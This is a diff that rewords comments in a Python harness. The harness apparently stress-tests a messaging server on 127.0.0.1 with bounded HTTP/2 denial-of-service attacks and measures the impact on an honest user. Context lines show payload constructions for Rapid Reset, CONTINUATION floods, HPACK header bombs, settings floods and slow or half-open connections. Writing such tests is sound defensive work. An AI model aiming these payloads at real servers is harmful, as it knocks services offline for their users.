@@ -1,8 +1,8 @@
-"""A bounded attacker, and what an honest user notices of him: `abuse.py [--seconds N] [--connections N] [--only NAME]`.
+"""A bounded attacker, and what an honest user notices of it: `abuse.py [--seconds N] [--connections N] [--only NAME]`.
 
 Everything against a server of its own on 127.0.0.1,
 a few seconds each, ending by itself; or against nginx in front of it. Attackers are processes of their own, so that they do not slow the honest user down
-by sharing his interpreter; they do share the machine's cores with everybody, which every figure includes."""
+by sharing its interpreter; they do share the machine's cores with all processes, which every figure includes."""
 
 import argparse
 import json
@@ -21,14 +21,14 @@ from http2 import Connection, field, frame, pump, request
 
 HERE = Path(__file__).resolve().parent
 LOGIN_PATH, SEND_PATH = "/Auth/Login", "/Messaging/SendMessage"
-# What an honest call may take before it counts as a failure.
+# The longest time of an honest call; after it the call counts as failed.
 PATIENCE_S = 60
 PASSWORD = "верный конь 7"
-# How an attacker that has an account gets his token.
+# How an attacker with an account gets its token.
 TOKEN_VARIABLE = "ABUSE_TOKEN"
 
 
-# --- The attacks. Each takes where to, for how long and how many connections, and tells what it did. ---
+# --- The attacks. Each takes the address, the time and the number of connections, and returns what it did. ---
 
 def _report(connections, **did):
     cut = [c for c in connections if c.closed]
@@ -39,7 +39,7 @@ def _report(connections, **did):
 
 
 def _flood(address, seconds, connections, make, count=None, **how):
-    """Some connections that send what `make(connection)` gives, as fast as they can. Who is cut off comes again."""
+    """Connections that send what `make(connection)` gives, as fast as they can. A closed one is opened again."""
     until = time.monotonic() + seconds
     all_of_them = []
     while time.monotonic() < until and len(all_of_them) < 50 * connections:
@@ -57,7 +57,7 @@ def _counted(connection, n):
 
 
 def rapid_reset(address, seconds, connections):
-    """CVE-2023-44487: calls that are taken back at once."""
+    """CVE-2023-44487: calls that are cancelled at once."""
     block = request(LOGIN_PATH)
 
     def make(connection):
@@ -101,17 +101,17 @@ def _continuations(address, seconds, connections, acknowledges):
 
 
 def continuation_flood(address, seconds, connections):
-    """CVE-2024-27316 and its kin: headers that never end."""
+    """CVE-2024-27316 and the like: headers that never end."""
     return _continuations(address, seconds, connections, True)
 
 
 def continuation_flood_unacknowledged(address, seconds, connections):
-    """The same by somebody who never agrees to the server's settings."""
+    """The same by a client that never acknowledges the server's settings."""
     return _continuations(address, seconds, connections, False)
 
 
 def _header_blocks(address, seconds, connections, parts, **how):
-    """Whole calls whose headers are `parts`, cut into frames, each left open."""
+    """Calls with the headers `parts`, cut into frames, each left open."""
     block = request(SEND_PATH) + parts
     pieces = [block[at:at + 16_384] for at in range(0, len(block), 16_384)]
 
@@ -137,17 +137,17 @@ def header_bomb_many(address, seconds, connections):
 
 
 def header_bomb_indexed(address, seconds, connections):
-    """A large one that is remembered, and then named by one byte, sixteen thousand times."""
+    """A large header that the server indexes, then named by one byte, sixteen thousand times."""
     return _header_blocks(address, seconds, connections, field("x-bomb", b"z" * 3_900, True) + b"\xbe" * 16_000)
 
 
 def header_table_churn(address, seconds, connections):
-    """Every header is to be remembered, and drives another out."""
+    """Every header is indexed, and evicts another one."""
     return _header_blocks(address, seconds, connections, b"".join(field(f"x{n}", "v" * 30, True) for n in range(200)))
 
 
 def header_bomb_unacknowledged(address, seconds, connections):
-    """Headers of a mebibyte on one call after the other, by somebody who never agrees to the server's settings."""
+    """Headers of a mebibyte on one call after the other, by a client that never acknowledges the server's settings."""
     return _header_blocks(address, seconds, connections, field("x-bomb", b"z" * 2**20), acknowledges=False)
 
 
@@ -179,7 +179,7 @@ def settings_flood(address, seconds, connections):
 
 
 def settings_flood_unread(address, seconds, connections):
-    """The same, and what the server answers is left lying."""
+    """The same, and the answers are never read."""
     return _settings(address, seconds, connections, False)
 
 
@@ -193,7 +193,7 @@ def _settings(address, seconds, connections, reads):
 
 
 def empty_data(address, seconds, connections):
-    """CVE-2019-9518: a call whose body is nothing, again and again."""
+    """CVE-2019-9518: a call with endless empty frames as its body."""
     block = frame(http2.DATA, 0, 1) * 1_000
 
     def make(connection):
@@ -212,7 +212,7 @@ def _crowd(address, seconds, connections, hello, **how):
         one = Connection(address, **how)
         one.queue(hello)
         crowd.append(one)
-        # Not faster than the system's queue of new connections takes them.
+        # Not faster than the system's queue of new connections allows.
         if n % 64 == 63:
             pump(crowd[-64:], min(until, time.monotonic() + 0.02))
     pump(crowd, until)
@@ -224,22 +224,22 @@ def _crowd(address, seconds, connections, hello, **how):
 
 
 def half_open(address, seconds, connections):
-    """Connections without a word."""
+    """Connections that send nothing."""
     return _crowd(address, seconds, connections, b"", acknowledges=False)
 
 
 def preface_only(address, seconds, connections):
-    """Connections that begin and do not go on."""
+    """Connections that begin and then send nothing more."""
     return _crowd(address, seconds, connections, http2.PREFACE, acknowledges=False)
 
 
 def idle_connections(address, seconds, connections):
-    """Connections that are in order, and do nothing."""
+    """Complete connections without a call."""
     return _crowd(address, seconds, connections, http2.PREFACE + frame(http2.SETTINGS, 0, 0))
 
 
 def slow_headers(address, seconds, connections):
-    """A byte of a call's headers now and then."""
+    """A byte of a call's headers from time to time."""
     until = time.monotonic() + seconds
     whole = frame(http2.HEADERS, 0, 1, request(SEND_PATH)) + frame(http2.CONTINUATION, 0, 1, field("x-slow", "s" * 8_000))
     crowd = [Connection(address).introduce() for _ in range(min(connections, 200))]
@@ -259,7 +259,7 @@ def _unfinished(address, seconds, connections, per_connection, acknowledges, sto
     block = request(SEND_PATH)
 
     def make(connection):
-        # The server's settings have to be there, or its limit does not hold yet.
+        # The limit of the server holds only once its settings have arrived.
         if acknowledges and http2.SETTINGS not in connection.received:
             return b""
         n = min(100, per_connection - getattr(connection, "did", 0))
@@ -285,7 +285,7 @@ def unfinished_streams_beyond(address, seconds, connections):
 
 
 def unfinished_streams_unacknowledged(address, seconds, connections):
-    """More than that, by somebody who never agrees to the server's settings."""
+    """More than that, by a client that never acknowledges the server's settings."""
     return _unfinished(address, seconds, connections, 5_000, False)
 
 
@@ -313,13 +313,13 @@ class Figures:
 
 
 class Honest:
-    """Somebody who was logged in before it began: he speaks, and listens to himself."""
+    """A user who was logged in before the attack began, sends messages and receives them."""
 
     def __init__(self, peer, token, listener, pause):
         self.peer, self.token, self.listener, self.pause = peer, token, listener, pause
 
     def speak(self, until):
-        """Says something again and again; how long each took to be answered, and to be heard, in seconds."""
+        """Sends messages one after the other; how long each took to be answered, and to be delivered, in seconds."""
         answered, heard = [], []
         while not answered or not until():
             started = time.perf_counter()
@@ -333,7 +333,7 @@ class Honest:
 
 
 def log_in(peer, login, password, phone):
-    """A login as a person does it, who tries again when he is told to; how long it took, and how many attempts."""
+    """A login as a person does it, with another try when told so; how long it took, and how many attempts."""
     started = time.perf_counter()
     attempts = 0
     while True:
@@ -364,7 +364,7 @@ def attack(name, address, seconds, connections, honest, newcomer, pids):
     command = [sys.executable, __file__, "--attack", name, "--target", f"{address[0]}:{address[1]}",
                "--seconds", str(seconds), "--connections", str(connections)]
     started = time.monotonic()
-    # An attacker may well have an account.
+    # An attacker may have an account.
     environment = {**os.environ, TOKEN_VARIABLE: honest.token}
     with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd=HERE, env=environment) as attacker:
         newcomers = []
@@ -400,7 +400,7 @@ def attack(name, address, seconds, connections, honest, newcomer, pids):
 
 
 def settled(pids, before, seconds=10):
-    """The figures once the attackers' connections are gone, or when they will not go."""
+    """The figures once the attackers' connections are closed, or after a limit."""
     until = time.monotonic() + seconds
     while True:
         now = Figures(pids)
@@ -474,7 +474,7 @@ def main():
     if options.attack:
         host, port = options.target.rsplit(":", 1)
         assert host == "127.0.0.1", "this machine only"
-        # The attacker has an address of his own, as he would elsewhere.
+        # The attacker has an address of its own, as a remote one would have.
         http2.SOURCE = "127.0.0.66"
         print(json.dumps(ATTACKS[options.attack]((host, int(port)), seconds, connections)))
         return
